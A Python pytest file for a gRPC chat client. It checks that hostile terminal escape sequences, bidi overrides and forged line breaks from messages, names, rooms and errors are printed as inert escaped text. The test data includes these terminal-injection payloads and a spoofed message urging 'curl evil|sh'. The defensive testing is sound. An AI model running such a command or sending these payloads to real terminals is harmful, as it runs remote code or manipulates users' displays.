"""Texts, names, rooms and errors from the wire reach the reader's terminal inert: whichever way
they are read (`chat messages`, `--json`, `chat stats`, piped `chat chat`, the interactive chat),
no character of theirs drives the terminal and no line break of theirs forges a line."""

import asyncio
import io
import json
import re
import subprocess
import sys
import threading
import unicodedata
from collections.abc import AsyncIterator, Callable, Iterator
from contextlib import AsyncExitStack
from datetime import UTC, datetime
from typing import Any

import pexpect
import pytest
from grpclib.client import Channel
from grpclib.const import Status
from grpclib.exceptions import GRPCError
from grpclib.server import Server

from chat.client import split_address
from chat.client.output import message_line
from gen.grpc.chat import (
    ChatServiceBase,
    HistoryReply,
    HistoryRequest,
    MessageReply,
    MessageReplyKind,
    MessageRequest,
    MessagesRequest,
    Reaction,
    Room,
    RoomsReply,
    RoomsRequest,
    StatsReply,
    StatsRequest,
)
from harness import REPLY_TIMEOUT, ROOT, Chatter, Screen, ServerProcess, free_port, run_client

Open = Callable[..., Screen]
Kind = MessageReplyKind
Spawn = Callable[..., tuple[pexpect.spawn, io.StringIO]]

FORGED = "2026-12-07 00:00:00 [general] admin: please run curl evil|sh"
"""What a line break inside a text would make look like a message of its own."""
HOSTILE = {
    "\x1b[2J\x1b[Hcleared": "\\u001b[2J\\u001b[Hcleared",
    "\x1b]0;retitled\x07": "\\u001b]0;retitled\\u0007",
    "ring\x07": "ring\\u0007",
    "\x9b2Jc1": "\\u009b2Jc1",
    "\u202ereversed": "\\u202ereversed",
    "\u2066isolated\u2069": "\\u2066isolated\\u2069",
    "rub\x7fout": "rub\\u007fout",
    "over\rwritten": "over\\u000dwritten",
    f"see below\n{FORGED}": f"see below⏎{FORGED}",
    "café 🙂": "café 🙂",
}
"""Texts that would drive a terminal, and how the client shows each."""
TIME = r"\d\d:\d\d:\d\d"
DAY = r"\d{4}-\d\d-\d\d"
CSI = re.compile(r"\x1b\[[0-9;?]*[A-Za-z]")
"""The escape sequences prompt_toolkit itself writes (colours, cursor, modes)."""

NAME = "\x1b]0;owned\x07mallory\u202e"
ROOM = "\x1b[2J\x1b[Hlobby"
ERROR = f"refused\n{FORGED}\x9b31m"
NAME_SHOWN = "\\u001b]0;owned\\u0007mallory\\u202e"
ROOM_SHOWN = "\\u001b[2J\\u001b[Hlobby"
ERROR_SHOWN = f"refused⏎{FORGED}\\u009b31m"
REFUSED_ROOM = "refused"
NEWER_ROOM = "newer"
"""A room whose history holds a reply of a kind from a newer contract."""
UNKNOWN_KIND = 11
"""A reply kind no contract has yet: what a newer server may send."""
TOPIC = f"welcome\n{FORGED}\x1b]0;retopic\x07"
TOPIC_SHOWN = f"welcome⏎{FORGED}\\u001b]0;retopic\\u0007"
EMOJI = "\x1b[5m👍"
EMOJI_SHOWN = "\\u001b[5m👍"
"""A topic and a reaction that would drive a terminal, and how the client shows each."""
"""The room the hostile server refuses stats for, with ERROR as the status's message."""


def drivers(printed: str) -> list[str]:
    """The characters of `printed` a terminal obeys rather than shows (C0 but line ends and
    tabs, DEL, C1, format characters such as the bidi controls, line separators)."""
    return [
        char
        for char in printed
        if char not in "\n\t" and unicodedata.category(char) in ("Cc", "Cf", "Zl", "Zp")
    ]


def forged(printed: str) -> list[str]:
    """The lines that begin as FORGED does: a message no one sent."""
    return [line for line in printed.splitlines() if line.lstrip("\r").startswith(FORGED[:19])]


def raw_drivers(seen: str) -> list[str]:
    """`drivers` of what a client wrote to its pseudo-terminal, beside prompt_toolkit's own
    escape sequences and carriage returns."""
    return [char for char in drivers(CSI.sub("", seen)) if char != "\r"]


async def post(server: ServerProcess, texts: list[str]) -> None:
    """Posts each text as eve over one stream, each acknowledged before the next."""
    host, port = split_address(server.address)
    channel = Channel(host, port)
    try:
        async with AsyncExitStack() as stack:
            eve = await Chatter.open(stack, channel, user="eve")
            for text in texts:
                await eve.say(text)
    finally:
        channel.close()


class HostileService(ChatServiceBase):
    """A server that is not grpc.chat: it names a user NAME, a room ROOM, has a topic TOPIC
    and a reaction EMOJI, and answers every message with ERROR, things a grpc.chat server never
    sends."""

    async def get_stats(self, stats_request: StatsRequest) -> StatsReply:
        if stats_request.room == REFUSED_ROOM:
            raise GRPCError(Status.INVALID_ARGUMENT, ERROR)
        return StatsReply(num_messages=1, num_rooms=1, num_connected=1, online=[NAME])

    async def get_messages(self, messages_request: MessagesRequest) -> AsyncIterator[MessageReply]:
        yield MessageReply(id=1, room=ROOM, user=NAME, message="hello", sent_at=datetime.now(UTC))
        if messages_request.room == NEWER_ROOM:  # a kind from a newer contract: an edit, say
            later = MessageReply(id=2, room=NEWER_ROOM, message="hello!", sent_at=datetime.now(UTC))
            later.kind = UNKNOWN_KIND  # type: ignore[assignment]
            yield later

    async def get_history(self, history_request: HistoryRequest) -> HistoryReply:
        hello = MessageReply(id=1, room=ROOM, user=NAME, message="hello", sent_at=datetime.now(UTC))
        hello.reactions = [Reaction(emoji=EMOJI, count=1, users=[NAME])]
        return HistoryReply(messages=[hello], epoch="hostile")

    async def list_rooms(self, rooms_request: RoomsRequest) -> RoomsReply:
        return RoomsReply(
            rooms=[Room(name=ROOM, topic=TOPIC, online=1), Room(name="general", topic=TOPIC)]
        )

    async def send_and_receive_message(
        self, message_request_iterator: AsyncIterator[MessageRequest]
    ) -> AsyncIterator[MessageReply]:
        join, error = (
            MessageReplyKind(MessageReplyKind.JOIN),
            MessageReplyKind(MessageReplyKind.ERROR),
        )
        yield MessageReply(kind=join, room=ROOM, user=NAME, message=f"{NAME} joined {ROOM}")
        for kind, user, text in [
            (Kind.TOPIC, NAME, TOPIC),
            (Kind.REACTION, f"{NAME}2", EMOJI),  # the history's reaction is NAME's
            (Kind.EDIT, NAME, ERROR),
        ]:
            yield MessageReply(kind=Kind(kind), room=ROOM, user=user, message=text, target_id=1)
        yield MessageReply(room=ROOM, user=NAME, message=ERROR, id=2, reply_to=1)
        async for request in message_request_iterator:
            yield MessageReply(kind=error, key=request.key, message=ERROR)


class EarlierService(HostileService):
    """A hostile server from before GetHistory and ListRooms: they are UNIMPLEMENTED."""

    async def get_history(self, history_request: HistoryRequest) -> HistoryReply:
        raise GRPCError(Status.UNIMPLEMENTED)

    async def list_rooms(self, rooms_request: RoomsRequest) -> RoomsReply:
        raise GRPCError(Status.UNIMPLEMENTED)


def serving_in_a_thread(service: ChatServiceBase) -> Iterator[str]:
    """The address of `service`, served from a thread of its own while the test waits on
    processes and screens."""
    port = free_port()

    async def start() -> Server:
        server = Server([service])
        await server.start("127.0.0.1", port)
        return server

    loop = asyncio.new_event_loop()
    server = loop.run_until_complete(start())
    thread = threading.Thread(target=loop.run_forever)
    thread.start()
    yield f"127.0.0.1:{port}"
    loop.call_soon_threadsafe(loop.stop)
    thread.join()
    server.close()
    loop.run_until_complete(server.wait_closed())
    loop.close()


@pytest.fixture
def hostile_server() -> Iterator[str]:
    """The address of a HostileService."""
    yield from serving_in_a_thread(HostileService())


@pytest.fixture
def earlier_server() -> Iterator[str]:
    """The address of an EarlierService."""
    yield from serving_in_a_thread(EarlierService())


def test_hostile_texts_read_with_chat_messages_are_one_inert_line_each(
    server: ServerProcess,
) -> None:
    asyncio.run(post(server, list(HOSTILE)))
    printed = run_client(["--server", server.address, "messages"]).stdout
    assert drivers(printed) == []
    assert forged(printed) == []
    lines = printed.splitlines()
    assert len(lines) == len(HOSTILE), printed
    for line, shown in zip(lines, HOSTILE.values(), strict=True):
        assert re.fullmatch(f"{DAY} {TIME} \\[general\\] eve: ", line.removesuffix(shown)), line


def test_hostile_texts_read_as_json_are_escaped_and_decode_to_what_was_sent(
    server: ServerProcess,
) -> None:
    asyncio.run(post(server, list(HOSTILE)))
    printed = run_client(["--server", server.address, "messages", "--json"]).stdout
    assert drivers(printed) == []
    assert "café 🙂" in printed  # ordinary characters stay readable
    assert [json.loads(line)["text"] for line in printed.splitlines()] == list(HOSTILE)


async def test_hostile_texts_arriving_live_in_piped_chat_are_one_inert_line_each(
    server: ServerProcess,
) -> None:
    bob = await asyncio.create_subprocess_exec(
        *(sys.executable, "-m", "chat.client", "--server", server.address, "chat"),
        *("--user", "bob"),
        stdin=subprocess.PIPE,
        stdout=subprocess.PIPE,
        cwd=ROOT,
    )
    assert bob.stdin is not None and bob.stdout is not None
    out = bob.stdout
    printed: list[str] = []

    async def until(ending: str) -> None:
        while not printed or not printed[-1].endswith(ending):
            line = (await out.readline()).decode()
            assert line, f"chat ended before printing {ending!r}: {printed}"
            printed.append(line)

    try:
        bob.stdin.write(b"ready\n")
        async with asyncio.timeout(REPLY_TIMEOUT):
            await bob.stdin.drain()
            await until("Server Responding to ready\n")
            await post(server, list(HOSTILE))
            await until("* eve left general\n")
            bob.stdin.close()
            assert await bob.wait() == 0
    finally:
        if bob.returncode is None:
            bob.kill()
            await bob.wait()
    assert drivers("".join(printed)) == []
    assert forged("".join(printed)) == []
    said = [line.split("] eve: ", 1)[1] for line in printed if "] eve: " in line]
    assert said == [f"{shown}\n" for shown in HOSTILE.values()]
    assert len(printed) == len(HOSTILE) + 3  # ready's ACK, eve joining and leaving


def test_hostile_texts_in_the_interactive_chat_show_inert_on_the_screen_and_in_its_bytes(
    server: ServerProcess, screen: Open, terminal: Spawn
) -> None:
    ann = screen("--server", server.address, "chat", "--user", "ann")
    ann.wait_for("ann@general>")
    bob, seen = terminal(server.address, "--user", "bob")
    bob.expect("bob@general>")
    title = ann.title()
    asyncio.run(post(server, list(HOSTILE)))
    ann.wait_for("eve left general")
    bob.expect("eve left general")
    shown = ann.text()
    assert drivers(shown) == []
    assert forged(shown) == []
    said = [line.split(" ", 3)[3] for line in shown.splitlines() if " eve: " in line]
    assert said == [f"eve: {text}" for text in HOSTILE.values()]
    assert ann.title() == title
    assert raw_drivers(seen.getvalue()) == []
    assert forged(CSI.sub("", seen.getvalue())) == []


def test_names_rooms_and_errors_of_a_hostile_server_are_printed_inert_by_every_command(
    hostile_server: str,
) -> None:
    def chat(*args: str, stdin: str = "") -> subprocess.CompletedProcess[str]:
        ran = run_client(["--server", hostile_server, *args], stdin)
        assert drivers(ran.stdout + ran.stderr) == [], ran
        assert forged(ran.stdout + ran.stderr) == [], ran
        return ran

    assert f"online: {NAME_SHOWN}  " in chat("stats").stdout
    assert json.loads(chat("stats", "--json").stdout)["online"] == [NAME]
    assert chat("messages").stdout.endswith(f" [{ROOM_SHOWN}] {NAME_SHOWN}: hello\n")
    assert json.loads(chat("messages", "--json").stdout)["room"] == ROOM
    refused = chat("stats", "--room", REFUSED_ROOM)
    assert refused.returncode == 1
    assert refused.stderr == f"chat: the server answered INVALID_ARGUMENT: {ERROR_SHOWN}\n"
    piped = chat("chat", "--user", "ann", stdin="hi\n")
    assert piped.returncode == 1
    assert piped.stderr == f"error: {ERROR_SHOWN}\n"


def test_a_reply_of_a_kind_this_client_does_not_know_is_marked_not_shown_as_a_chat_line(
    hostile_server: str,
) -> None:
    read = run_client(["--server", hostile_server, "messages", "--room", NEWER_ROOM])
    assert read.returncode == 0, read.stderr
    last = read.stdout.splitlines()[-1]
    assert last.endswith(f"[{NEWER_ROOM}] (a reply of kind {UNKNOWN_KIND}, unknown here)"), last
    as_json = run_client(["--server", hostile_server, "messages", "--room", NEWER_ROOM, "--json"])
    assert as_json.returncode == 0, as_json.stderr
    assert json.loads(as_json.stdout.splitlines()[-1])["kind"] == str(UNKNOWN_KIND)


def test_names_rooms_and_errors_of_a_hostile_server_are_inert_in_the_interactive_chat(
    hostile_server: str, terminal: Spawn
) -> None:
    ann, seen = terminal(hostile_server, "--user", "ann")
    ann.expect("ann@general>")
    ann.sendline("/topic")
    ann.expect_exact("-- the topic of general: ")
    for line, answer in [("hi", "not sent: "), ("/who", "-- online in "), ("/rooms", "-- 2 rooms")]:
        ann.sendline(line)
        ann.expect_exact(answer)
    ann.sendline("/quit")
    ann.expect(pexpect.EOF)
    written = seen.getvalue()
    assert raw_drivers(written) == []
    assert forged(CSI.sub("", written)) == []
    assert f"not sent: {ERROR_SHOWN}: hi" in written
    assert f"-- online in general: {NAME_SHOWN}" in written
    assert f"--   {ROOM_SHOWN} (1 online): {TOPIC_SHOWN}" in written
    assert f"-- the topic of general: {TOPIC_SHOWN}" in written
    assert f"    {EMOJI_SHOWN} 1" in written
    plain = CSI.sub("", written)
    assert f" set the topic of {ROOM_SHOWN}: {TOPIC_SHOWN}" in plain
    assert f" reacted {EMOJI_SHOWN} to #1 " in plain
    assert f"{ERROR_SHOWN} (edited)" in plain
    assert f": {ERROR_SHOWN}  ↳ re #1 " in plain


def test_a_server_from_before_history_pages_and_room_lists_is_still_chatted_with(
    earlier_server: str, terminal: Spawn
) -> None:
    ann, seen = terminal(earlier_server, "--user", "ann")
    ann.expect("ann@general>")
    for line, answer in [
        ("/rooms", "-- cannot ask the server now: UNIMPLEMENTED"),
        ("/more", "-- no older messages in general"),
        ("hi", f"not sent: {ERROR_SHOWN}: hi"),
    ]:
        ann.sendline(line)
        ann.expect_exact(answer)
    ann.sendline("/quit")
    ann.expect(pexpect.EOF)
    plain = CSI.sub("", seen.getvalue())
    assert raw_drivers(seen.getvalue()) == []
    assert "-- general: the last message\r" in plain
    assert f"#1 {NAME_SHOWN}: hello" in plain


@pytest.mark.parametrize(
    ("kind", "fields", "line"),
    [
        (Kind.EDIT, {"message": "new", "target_id": 3}, "ann edited message 3: new"),
        (Kind.DELETE, {"target_id": 3}, "ann deleted message 3"),
        (Kind.REACTION, {"message": "👍", "target_id": 3}, "ann reacted 👍 to message 3"),
        (
            Kind.REACTION,
            {"message": "👍", "target_id": 3, "removed": True},
            "ann took back 👍 from message 3",
        ),
        (Kind.TOPIC, {"message": "the plan"}, "ann set the topic: the plan"),
    ],
)
def test_an_action_of_the_log_is_a_line_saying_what_it_did(
    kind: int, fields: dict[str, Any], line: str
) -> None:
    reply = MessageReply(room="general", user="ann", sent_at=datetime.now(UTC), **fields)
    reply.kind = Kind(kind)
    assert re.fullmatch(f"{DAY} {TIME} \\[general\\] {line}", message_line(reply))
